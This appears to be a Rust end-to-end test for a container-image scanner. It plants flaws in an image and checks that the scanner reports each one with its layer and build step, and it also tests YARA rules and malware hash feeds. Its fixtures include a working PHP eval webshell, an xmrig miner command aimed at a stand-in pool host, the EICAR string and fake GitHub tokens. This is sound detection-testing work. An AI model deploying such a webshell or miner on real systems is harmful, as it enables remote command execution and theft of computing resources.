//! An image that has one of everything, pushed by `skopeo`: all of it comes back through GraphQL, with its layer and build step.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write as _;
use std::path::{Path, PathBuf};

use plimsoll_e2e::Platform;
use plimsoll_e2e::layout::{Compression, Layout, tar_of, tar_with};
use plimsoll_e2e::platform::{Options, Tenant};
use serde_json::{Value, json};

use crate::text;

/// The analysers' fixtures: a folder for each, with what is found in it.
fn fixtures() -> Vec<PathBuf> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../libs/analysis/tests/fixtures");
    let mut fixtures: Vec<PathBuf> = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    fixtures.retain(|fixture| fixture.join("inventory.json").exists());
    fixtures.sort();
    fixtures
}

fn files_below(folder: &Path, files: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() { files_below(&path, files) } else { files.push(path) }
    }
}

/// A package as a fixture's inventory and the API both name it.
type Named = (String, String, String, String);

/// Adds a layer for each fixture. Of a file that two of them have, the first counts, and the others' packages in it are not expected.
fn add_fixtures(layout: &mut Layout) -> BTreeMap<Named, String> {
    let (mut taken, mut expected) = (BTreeSet::new(), BTreeMap::new());
    for fixture in fixtures() {
        let root = fixture.join("root");
        let step = format!("COPY {} / # buildkit", fixture.file_name().unwrap().to_str().unwrap());
        let mut files = Vec::new();
        files_below(&root, &mut files);
        files.sort();
        let mut builder = tar::Builder::new(Vec::new());
        let mut own = BTreeSet::new();
        for file in files {
            let inside = file.strip_prefix(&root).unwrap().to_str().unwrap().to_owned();
            if !inside.ends_with("os-release") && taken.insert(inside.clone()) {
                builder.append_path_with_name(&file, &inside).unwrap();
                own.insert(inside);
            }
        }
        layout.layer(&builder.into_inner().unwrap(), Compression::Gzip, &step);
        let inventory: Value = serde_json::from_slice(&std::fs::read(fixture.join("inventory.json")).unwrap()).unwrap();
        for package in inventory["packages"].as_array().unwrap() {
            let field = |name| text(package, name).to_owned();
            let path = field("/path");
            if own.contains(path.split("!/").next().unwrap()) {
                expected.insert((field("/type"), field("/name"), field("/version"), path), step.clone());
            }
        }
    }
    expected
}

pub fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

pub fn zip(name: &str, content: &str) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    writer.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
    writer.write_all(content.as_bytes()).unwrap();
    writer.finish().unwrap().into_inner()
}

/// What no file of ours may say as it stands: programs that look for such would find it in our sources.
fn joined(parts: &[&str]) -> String {
    parts.concat()
}

fn eicar() -> String {
    joined(&["X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"])
}

/// A token of GitHub's form, one for each number.
fn github_token(number: usize) -> String {
    let (end, start) = "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8".split_at(number);
    format!("ghp_{start}{end}")
}

/// A thing that was planted: what its observation says, and the build step that brought it.
struct Planted {
    kind: &'static str,
    rule: &'static str,
    place: Value,
    step: Option<&'static str>,
    is_removed: bool,
}

fn in_file(kind: &'static str, rule: &'static str, path: &'static str, step: &'static str) -> Planted {
    Planted { kind, rule, place: json!({ "subject": "FILE", "path": path }), step: Some(step), is_removed: false }
}

/// Adds layers and configuration with something wrong in each; gives what has to be observed.
fn plant(layout: &mut Layout) -> Vec<Planted> {
    let mut planted = Vec::new();
    let ended = "ID=debian\nVERSION_ID=\"9\"\nVERSION_CODENAME=stretch\nPRETTY_NAME=\"Debian GNU/Linux 9 (stretch)\"\n";
    layout.layer(&tar_of(&[("etc/os-release", ended)]), Compression::Zstd, "ADD rootfs.tar.xz /");
    planted.push(Planted {
        kind: "END_OF_LIFE",
        rule: "os-end-of-life",
        place: json!({ "subject": "IMAGE" }),
        step: None,
        is_removed: false,
    });

    let (kept, deleted) = (github_token(0), github_token(1));
    layout.layer(&tar_of(&[("srv/app/.env", &format!("TOKEN={kept}\n"))]), Compression::None, "COPY .env /srv/app/");
    planted.push(in_file("SECRET", "github-token", "srv/app/.env", "COPY .env /srv/app/"));
    layout.layer(&tar_of(&[("tmp/.netrc-token", &format!("token: {deleted}\n"))]), Compression::Gzip, "RUN make-token");
    layout.layer(&tar_of(&[("tmp/.wh..netrc-token", "")]), Compression::Gzip, "RUN rm /tmp/.netrc-token");
    let mut removed = in_file("SECRET", "github-token", "tmp/.netrc-token", "RUN make-token");
    removed.is_removed = true;
    planted.push(removed);

    let shell = joined(&["<?php @ev", "al(base64_", "decode($_POST['cmd'])); ?>"]);
    layout.layer(&tar_of(&[("srv/www/shell.php", &shell)]), Compression::Gzip, "COPY www /srv/www");
    planted.push(in_file("MALWARE", WEBSHELL, "srv/www/shell.php", "COPY www /srv/www"));
    let nested = gzip(&tar_with(&[("inner.zip", &zip("eicar.com", &eicar()), 0o644)]));
    layout.layer(&tar_with(&[("srv/upload.tar.gz", &nested, 0o644)]), Compression::Gzip, "COPY upload.tar.gz /srv/");
    planted.push(in_file(
        "MALWARE",
        "eicar_test_file",
        "srv/upload.tar.gz!/inner.zip!/eicar.com",
        "COPY upload.tar.gz /srv/",
    ));
    let miner = joined(&["#!/bin/sh\n./xm", "rig -o stra", "tum+tcp://pool.example:3333 -u 4Axyz --donate-level 1\n"]);
    layout.layer(&tar_of(&[("opt/.cache/run.sh", &miner)]), Compression::Gzip, "RUN curl miner");
    planted.push(in_file("MALWARE", MINER, "opt/.cache/run.sh", "RUN curl miner"));

    layout.layer(
        &tar_with(&[("usr/local/bin/rootme", b"#!/bin/sh\nid\n", 0o4755)]),
        Compression::Gzip,
        "RUN chmod u+s",
    );
    planted.push(in_file("MISCONFIGURATION", "setuid-files", "usr/local/bin/rootme", "RUN chmod u+s"));

    layout.layer(&tar_of(&[("etc/shadow", "guest::1::::::\n")]), Compression::Gzip, "RUN passwd -d guest");
    planted.push(in_file("MISCONFIGURATION", "empty-password", "etc/shadow", "RUN passwd -d guest"));

    layout.step(&format!("ARG BUILD_TOKEN={}", github_token(2)));
    let with_token = format!("RUN |1 BUILD_TOKEN={} /bin/sh -c make # buildkit", github_token(4));
    layout.layer(&tar_of(&[("srv/made", "made")]), Compression::Gzip, &with_token);
    let labels = json!({ "org.example.token": github_token(5), "org.example.team": "harbour" });
    layout.configure(json!({ "User": "root", "Env": [format!("DEPLOY_TOKEN={}", github_token(3))], "Labels": labels }));
    let elsewhere = |place| Planted { kind: "SECRET", rule: "github-token", place, step: None, is_removed: false };
    planted.push(elsewhere(json!({ "subject": "HISTORY" })));
    planted.push(elsewhere(json!({ "subject": "ENVIRONMENT", "name": "DEPLOY_TOKEN" })));
    planted.push(elsewhere(json!({ "subject": "LABEL", "name": "org.example.token" })));
    planted
}

/// How many tokens [`plant`] makes.
const TOKENS: usize = 6;

const WEBSHELL: &str = "php_webshell_eval_request";
const MINER: &str = "miner_command_line";

fn is_it(planted: &Planted, seen: &Value, layers: &BTreeMap<String, Value>) -> bool {
    let place = planted.place.as_object().unwrap();
    seen["kind"] == planted.kind
        && seen["rule"] == planted.rule
        && place.iter().all(|(field, value)| seen["place"][field] == *value)
        && seen["removedIn"].is_object() == planted.is_removed
        && planted.step.is_none_or(|step| {
            text(seen, "/introducedBy/buildStep/command") == step && seen["introducedBy"]["layer"] == layers[step]
        })
}

#[tokio::test(flavor = "multi_thread")]
async fn an_image_with_one_of_everything_is_told_whole_with_layers_and_build_steps() {
    let platform = Platform::start(Options::default()).await;
    let demo = platform.tenant("demo");
    let folder = platform.folder().join("everything");
    let mut layout = Layout::create(&folder);
    let expected = add_fixtures(&mut layout);
    let planted = plant(&mut layout);
    let mut layers = layout.layers_by_step();
    layout.finish("latest");
    platform.skopeo_push(&demo, &format!("oci:{}:latest", folder.display()), "everything:1");
    let image = platform.scanned(&demo, "everything:1").await;
    assert_eq!(text(&image, "/scan/state"), "DONE", "{image:#}");
    // As the registry has them: `skopeo` compresses a layer that is not.
    let manifest = manifest(&platform, &demo, "everything", "1").await;
    for layer in layers.values_mut() {
        let index = usize::try_from(layer["index"].as_u64().unwrap()).unwrap();
        layer["digest"] = manifest["layers"][index]["digest"].clone();
    }

    let packages = platform.packages(&demo, &image).await;
    // A package that stands in several databases is one, brought by the first.
    let mut steps: BTreeMap<[String; 3], BTreeSet<String>> = BTreeMap::new();
    for ((kind, name, version, _), step) in &expected {
        steps.entry([kind, name, version].map(Clone::clone)).or_default().insert(step.clone());
    }
    let mut missing = expected;
    for found in &packages {
        let field = |name| text(found, name).to_owned();
        let named = (field("/package/type"), field("/package/name"), field("/package/version"), field("/path"));
        if missing.remove(&named).is_some() {
            let (kind, name, version, _) = &named;
            let brought_by = text(found, "/introducedBy/buildStep/command");
            let steps = &steps[&[kind, name, version].map(Clone::clone)];
            assert!(steps.contains(brought_by), "{named:?} by {brought_by}");
            assert_eq!(found["introducedBy"]["layer"], layers[brought_by], "{named:?}");
        }
    }
    assert!(missing.is_empty(), "{} of the fixtures' packages are missing: {missing:#?}", missing.len());
    let kinds: BTreeSet<&str> = packages.iter().map(|found| text(found, "/package/type")).collect();
    println!("{} packages of {} types: {kinds:?}", packages.len(), kinds.len());
    assert!(kinds.len() >= 20, "{kinds:?}");

    let observations = platform.observations(&demo, &image).await;
    for wanted in &planted {
        let found = observations.iter().find(|seen| is_it(wanted, seen, &layers));
        let (rule, place) = (wanted.rule, &wanted.place);
        let found = found.unwrap_or_else(|| panic!("{rule} at {place} is not observed:\n{observations:#?}"));
        assert!(!text(found, "/advice").is_empty(), "{found:#}");
    }
    let around = what_is_around(&platform, &demo, "everything:1").await;
    let all = json!([observations, packages, around]).to_string();
    assert!((0..TOKENS).all(|number| !all.contains(&github_token(number))), "a secret is told: {around:#}");
    let team = json!({ "name": "org.example.team", "value": "harbour" });
    assert!(around["labels"].as_array().unwrap().contains(&team), "what is no secret is told as it is: {around:#}");
    let commands: Vec<&str> =
        around["layers"].as_array().unwrap().iter().map(|layer| text(layer, "/buildStep/command")).collect();
    assert!(commands.iter().any(|command| command.starts_with("RUN |1 BUILD_TOKEN=")), "{commands:#?}");
    for (name, _) in platform.services.iter() {
        let log = std::fs::read_to_string(platform.folder().join(format!("{name}.log"))).unwrap();
        assert!(!log.contains("ghp_"), "{name} logs a secret");
    }
    let coverage = coverage(&platform, &demo, "everything:1").await;
    let read_by: BTreeSet<&str> =
        coverage["sources"].as_array().unwrap().iter().map(|source| text(source, "/analyser")).collect();
    let unread: Vec<&str> = plimsoll_analysis::packages()
        .iter()
        .map(|analyser| analyser.name())
        .filter(|name| !read_by.contains(name))
        .collect();
    assert!(unread.is_empty(), "one of everything: the image has nothing for {unread:?}");
    let reasons: Vec<&str> = coverage["gaps"].as_array().unwrap().iter().map(|gap| text(gap, "/reason")).collect();
    assert!(reasons.contains(&"OS_ENDED"), "{coverage:#}");
}

/// A manifest as the registry serves it.
async fn manifest(platform: &Platform, tenant: &Tenant, repository: &str, tag: &str) -> Value {
    let address = format!("{}/v2/{}/{repository}/manifests/{tag}", platform.ingest(), tenant.slug);
    let answer = reqwest::Client::new().get(address).basic_auth("robot", Some(&tenant.key)).send().await.unwrap();
    answer.error_for_status().unwrap().json().await.unwrap()
}

/// What an image tells of itself beside what is found in it.
async fn what_is_around(platform: &Platform, tenant: &Tenant, reference: &str) -> Value {
    let query =
        "query($slug: String!, $reference: String!) { organization(slug: $slug) { image(reference: $reference) {
        labels { name value } layers { index digest buildStep { command } } problems { detail } } } }";
    let answer = platform.graphql(tenant, query, json!({ "slug": tenant.slug, "reference": reference })).await;
    answer["organization"]["image"].clone()
}

pub async fn coverage(platform: &Platform, tenant: &Tenant, reference: &str) -> Value {
    let query =
        "query($slug: String!, $reference: String!) { organization(slug: $slug) { image(reference: $reference) {
        coverage { isComplete os { state endedOn } sources { analyser } gaps { reason statement count examples } } } } }";
    let answer = platform.graphql(tenant, query, json!({ "slug": tenant.slug, "reference": reference })).await;
    answer["organization"]["image"]["coverage"].clone()
}

#[tokio::test(flavor = "multi_thread")]
async fn the_operator_s_rules_and_a_feed_s_bundle_and_hashes_are_used_as_soon_as_they_are_there() {
    let (mirror, rules) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    plimsoll_e2e::mirror::write_small_mirror(mirror.path(), &[]);
    let rule = |name: &str, word: &str| format!("rule {name} {{ strings: $a = \"{word}\" condition: $a }}");
    std::fs::write(rules.path().join("house.yar"), rule("house", "word-of-the-operator")).unwrap();
    for folder in ["yara", "malware-hashes"] {
        std::fs::create_dir(mirror.path().join(folder)).unwrap();
    }
    let bundle = zip("rules/fed.yar", &rule("fed", "word-of-the-feed"));
    std::fs::write(mirror.path().join("yara/signature-base.zip"), bundle).unwrap();
    let known = "#!/bin/sh\nknown by its hash alone\n";
    let hash = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(known));
    std::fs::write(mirror.path().join("malware-hashes/sha256-recent.txt"), format!("{hash} Demo\n")).unwrap();
    let server = plimsoll_e2e::mirror::Mirror::serve(mirror.path().to_owned());
    let scanner = vec![
        ("PLIMSOLL_YARA_RULES", rules.path().display().to_string()),
        ("PLIMSOLL_MALWARE_FEEDS", "signature-base,malware-hashes".to_owned()),
    ];
    let options = Options { feeds_base: Some(server.address().into()), scanner, ..Options::default() };
    let platform = Platform::start(options).await;
    let demo = platform.tenant("demo");
    let folder = platform.folder().join("rules");
    let mut layout = Layout::create(&folder);
    let files =
        [("a.sh", "#!/bin/sh\n# word-of-the-operator\n"), ("b.sh", "#!/bin/sh\n# word-of-the-feed\n"), ("c.sh", known)];
    layout.layer(&tar_of(&files), Compression::Gzip, "COPY . /");
    layout.finish("latest");
    let malware = async |tag: &str| -> BTreeSet<(String, String)> {
        platform.skopeo_push(&demo, &format!("oci:{}:latest", folder.display()), tag);
        let image = platform.scanned(&demo, tag).await;
        let seen = platform.observations(&demo, &image).await.into_iter().filter(|seen| seen["kind"] == "MALWARE");
        seen.map(|seen| (text(&seen, "/rule").to_owned(), text(&seen, "/place/path").to_owned())).collect()
    };
    let named = |rule: &str, path: &str| (rule.to_owned(), path.to_owned());
    platform.sync_feeds();
    let expected = BTreeSet::from([
        named("operator:house", "a.sh"),
        named("signature-base:fed", "b.sh"),
        named("sha256-recent:known-hash", "c.sh"),
    ]);
    assert_eq!(malware("rules:1").await, expected);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_organization_s_own_rules_judge_its_images_and_nobody_else_s() {
    let platform = Platform::start(Options::default()).await;
    let (demo, theirs) = (platform.tenant("demo"), platform.tenant("theirs"));
    let folder = platform.folder().join("own");
    let mut layout = Layout::create(&folder);
    let text_of = "this program is a forbidden-word of demo\n";
    layout.layer(&tar_of(&[("opt/tool.sh", text_of)]), Compression::Gzip, "COPY tool.sh /opt/");
    layout.layer(&tar_of(&[("opt/.wh.tool.sh", "")]), Compression::Gzip, "RUN rm /opt/tool.sh");
    layout.finish("latest");
    for tenant in [&demo, &theirs] {
        platform.skopeo_push(tenant, &format!("oci:{}:latest", folder.display()), "own:1");
        platform.scanned(tenant, "own:1").await;
    }
    let api = platform.api();
    let client = reqwest::Client::builder().cookie_store(true).build().unwrap();
    let credentials = json!({ "email": demo.email, "password": demo.password });
    client.post(format!("{api}/v1/sign-in")).json(&credentials).send().await.unwrap().error_for_status().unwrap();
    let ask = async |query: &str, variables: Value| -> Value {
        let body = json!({ "query": query, "variables": variables });
        client.post(format!("{api}/graphql")).json(&body).send().await.unwrap().json().await.unwrap()
    };
    let save = "mutation($name: String!, $source: String!) { saveYaraRuleSet(name: $name, source: $source) {
        yaraRuleSet { id ruleCount } rescannedImages userErrors { code field message } } }";
    let broken = ask(save, json!({ "name": "house", "source": "rule a { condition: nonsense }" })).await;
    let errors = &broken["data"]["saveYaraRuleSet"]["userErrors"];
    assert_eq!(errors[0]["code"], "RULES_INVALID", "{broken:#}");
    let source =
        "rule forbidden { meta: description = \"A word of ours\" strings: $a = \"forbidden-word\" condition: $a }";
    let saved = ask(save, json!({ "name": "house", "source": source })).await;
    let saved = &saved["data"]["saveYaraRuleSet"];
    assert_eq!((&saved["rescannedImages"], &saved["yaraRuleSet"]["ruleCount"]), (&json!(1), &json!(1)), "{saved:#}");

    let malware = async |tenant: &Tenant| -> Vec<Value> {
        let image = platform.scanned(tenant, "own:1").await;
        let mut seen = platform.observations(tenant, &image).await;
        seen.retain(|seen| seen["kind"] == "MALWARE");
        seen
    };
    let seen = malware(&demo).await;
    assert_eq!(seen.len(), 1, "{seen:#?}");
    assert_eq!((&seen[0]["rule"], &seen[0]["place"]["path"]), (&json!("house:forbidden"), &json!("opt/tool.sh")));
    assert_eq!(text(&seen[0], "/introducedBy/buildStep/command"), "COPY tool.sh /opt/");
    assert_eq!(seen[0]["removedIn"], json!({ "index": 1 }));
    assert!(malware(&theirs).await.is_empty(), "another organization's rules say nothing of ours");

    // A rule that takes for ever is cut off, and that is a gap of this organization's alone.
    let endless = "rule endless { condition: for all i in (0..0x7fffffffffff) : (i >= 0) }";
    ask(save, json!({ "name": "house", "source": endless })).await;
    let gaps = async |tenant: &Tenant| -> Value {
        let image = platform.scanned(tenant, "own:1").await;
        let query = "query($slug: String!, $digest: String!) { organization(slug: $slug) { image(reference: $digest) {
            coverage { gaps { reason statement examples } } } } }";
        let answer = platform.graphql(tenant, query, json!({ "slug": tenant.slug, "digest": image["digest"] })).await;
        answer["organization"]["image"]["coverage"]["gaps"].clone()
    };
    let told = gaps(&demo).await;
    let told: Vec<&Value> = told.as_array().unwrap().iter().filter(|gap| gap["reason"] == "FILE_NOT_READ").collect();
    assert_eq!(told.len(), 1, "{told:#?}");
    assert_eq!(told[0]["examples"], json!(["opt/tool.sh"]));
    assert!(text(told[0], "/statement").ends_with("by house: it takes more than 10 seconds"), "{told:#?}");
    assert!(!gaps(&theirs).await.to_string().contains("house"));

    let delete = "mutation($id: ID!) { deleteYaraRuleSet(id: $id) { rescannedImages userErrors { code } } }";
    let deleted = ask(delete, json!({ "id": saved["yaraRuleSet"]["id"] })).await;
    assert_eq!(deleted["data"]["deleteYaraRuleSet"]["rescannedImages"], 1, "{deleted:#}");
    assert!(malware(&demo).await.is_empty(), "what they found goes with the rules");
}
